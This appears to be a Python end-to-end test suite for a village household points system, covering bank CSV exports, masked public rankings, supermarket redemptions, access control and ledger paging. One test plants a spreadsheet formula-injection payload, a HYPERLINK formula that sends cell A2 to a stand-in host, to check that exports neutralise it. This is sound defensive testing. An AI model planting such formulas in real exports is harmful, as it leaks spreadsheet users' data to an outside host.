"""Points over HTTP in the demo deployment: the bank's CSV of eligible households and the masked ranking."""
import csv
import io
import re

from tests.e2e.helpers import ok


def household(api, head):
    return ok(api.call("gm-yks-01", "POST", "/households", {"grid": "BZ.RQ.TGLK.YKS.G01", "head": head,
                                                            "members": 3, "address": "1组"}), 201)["id"]


def award(api, home, rule, times=1):
    for _ in range(times):
        ok(api.call("evaluator-yks", "POST", f"/households/{home}/points", {"rule": rule, "reason": "评议"}), 201)


def test_eligible_households_export_for_the_bank_and_the_public_ranking_masks_names(api):
    wang, li = household(api, "王小明"), household(api, "李娜")
    award(api, wang, "helped_mediate", 3)                          # 30 points: star-household priority
    award(api, li, "volunteer_work", 2)                             # 6 points: not enough
    month = ok(api.call("evaluator-yks", "GET", f"/households/{wang}/ledger"))["items"][0]["month"]
    listed = ok(api.call("leader-rq", "GET", f"/privileges/star_household_priority/households?village=BZ.RQ.TGLK.YKS"
                                             f"&period={month[:4]}"))
    assert [(r["head"], r["points_earned"]) for r in listed["items"]] == [("王小明", 30)]
    response = api.client.http.get(f"/privileges/star_household_priority/households?village=BZ.RQ.TGLK.YKS"
                                   f"&period={month[:4]}&format=csv",
                                   headers={"Authorization": f"Bearer {api.token('leader-rq')}"})
    text = response.body.decode("utf-8") if isinstance(response.body, bytes) else response.body
    assert text.startswith("\ufeff") and response.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[1][5] == "王小明" and rows[1][7] == "30"
    ranking = ok(api.call(None, "GET", f"/villages/BZ.RQ.TGLK.YKS/points-ranking?month={month}"))   # public
    assert [(r["rank"], r["household"], r["points"]) for r in ranking["items"][:2]] == [(1, "王**", 30), (2, "李*", 6)]
    assert "王小明" not in str(ranking)


def test_a_redemption_over_http_is_applied_once_per_key_and_clerks_stay_at_their_supermarket(api):
    home = household(api, "王小明")
    award(api, home, "helped_mediate", 3)                           # 30 points, the rule's monthly cap
    ok(api.call("clerk-yks", "POST", "/supermarkets/yks-market/stock", {"sku": "rice-5kg", "add": 5}))
    answers = [api.call("clerk-yks", "POST", "/supermarkets/yks-market/redemptions",
                        {"household_id": home, "sku": "rice-5kg"}, headers={"Idempotency-Key": "r-1"}) for _ in range(3)]
    assert {code for code, _ in answers} == {201} and len({a["order"]["id"] for _, a in answers}) == 1
    assert ok(api.call("evaluator-yks", "GET", f"/households/{home}/ledger"))["balance"] == 30 - 30   # one bag of rice
    stock = ok(api.call("clerk-yks", "GET", "/supermarkets/yks-market/stock"))
    assert {i["sku"]: i["stock"] for i in stock["items"]}["rice-5kg"] == 4
    code, body = api.call("clerk-yks", "POST", "/supermarkets/yks-market/redemptions", {"household_id": home, "sku": "rice-5kg"})
    assert code == 409 and body["error"]["code"] == "insufficient_points"
    assert api.call("dept-rq-agri", "GET", f"/households/{home}/ledger")[0] == 404


FORMULA = '=HYPERLINK("http://x/?"&A2,"点击")'


def csv_rows(api, user, path):
    response = api.client.http.get(path, headers={"Authorization": f"Bearer {api.token(user)}"})
    assert response.status_code == 200 and response.headers["Content-Type"].startswith("text/csv"), response.body
    text = response.body.decode("utf-8") if isinstance(response.body, bytes) else response.body
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def is_number(cell):
    try:
        float(cell)
        return True
    except ValueError:
        return False


def test_every_csv_neutralises_formulas_and_reads_in_chinese_or_in_english_on_request(api):
    from tests.e2e.helpers import drive, new_case
    home = household(api, FORMULA)
    award(api, home, "helped_mediate", 3)
    drive(api, new_case(api)["id"], "closed")
    year = ok(api.call("evaluator-yks", "GET", f"/households/{home}/ledger"))["items"][0]["month"][:4]
    exports = [("leader-rq", f"/privileges/star_household_priority/households?village=BZ.RQ.TGLK.YKS&period={year}"),
               ("leader-rq", f"/rankings?node=BZ.RQ&level=county&year={year}"),
               ("leader-rq", f"/statistics?node=BZ.RQ&period={year}")]
    for user, path in exports:
        for language, header_ok in (("", lambda h: all(re.search(r"[\u4e00-\u9fff]", c) for c in h)
                                     and not any(re.search(r"[A-Za-z]", c) for c in h)),
                                    ("&lang=en", lambda h: all(c.isascii() for c in h))):
            rows = csv_rows(api, user, f"{path}&format=csv{language}")
            assert header_ok(rows[0]), (path, language, rows[0])
            cells = [c for row in rows for c in row if c]
            assert not [c for c in cells if c[0] in "=+-@\t\r" and not is_number(c)], path
            assert not {"True", "False", "None"} & set(cells), path
    privileges = csv_rows(api, "leader-rq", exports[0][1] + "&format=csv")
    assert "'" + FORMULA in privileges[1]                          # kept, but as text a spreadsheet will not run
    ranking = csv_rows(api, "leader-rq", exports[1][1] + "&format=csv")
    assert {row[ranking[0].index("资格")] for row in ranking[1:]} <= {"是", "否"}
    english = csv_rows(api, "leader-rq", exports[1][1] + "&format=csv&lang=en")
    assert {row[english[0].index("eligible")] for row in english[1:]} <= {"yes", "no"}


def test_a_supermarkets_stock_is_read_only_by_its_clerks_and_the_admins_of_its_place(api):
    for user in ("clerk-yks", "admin-bz"):
        assert api.call(user, "GET", "/supermarkets/yks-market/stock")[0] == 200, user
    for user in ("gm-elb-01", "gm-yks-01", "station-yks", "leader-rq", "evaluator-yks", "dept-rq-agri"):
        code, body = api.call(user, "GET", "/supermarkets/yks-market/stock")
        assert code == 403 and body["error"]["code"] == "forbidden", user


def test_the_ledger_reads_newest_first_in_pages_that_join_up_to_the_whole_ledger(api):
    home = household(api, "阿不都")
    for rule in ["volunteer_work", "helped_mediate", "volunteer_work", "volunteer_work", "helped_mediate"]:
        award(api, home, rule)
    first = ok(api.call("evaluator-yks", "GET", f"/households/{home}/ledger?order=newest&limit=2"))
    assert [e["seq"] for e in first["items"]] == [5, 4] and first["cursor"]
    seqs, cursor = [e["seq"] for e in first["items"]], first["cursor"]
    while cursor:
        page = ok(api.call("evaluator-yks", "GET", f"/households/{home}/ledger?order=newest&limit=2&cursor={cursor}"))
        seqs, cursor = seqs + [e["seq"] for e in page["items"]], page["cursor"]
    assert seqs == [5, 4, 3, 2, 1]
    oldest = ok(api.call("evaluator-yks", "GET", f"/households/{home}/ledger?limit=2"))
    assert [e["seq"] for e in oldest["items"]] == [1, 2]                 # the default order is unchanged
    code, body = api.call("evaluator-yks", "GET",
                          f"/households/{home}/ledger?order=oldest&limit=2&cursor={first['cursor']}")
    assert code == 400                                                   # a cursor of the other order is refused
    code, body = api.call("evaluator-yks", "GET", f"/households/{home}/ledger?order=latest")
    assert code == 400 and body["error"]["fields"][0]["field"] == "order"
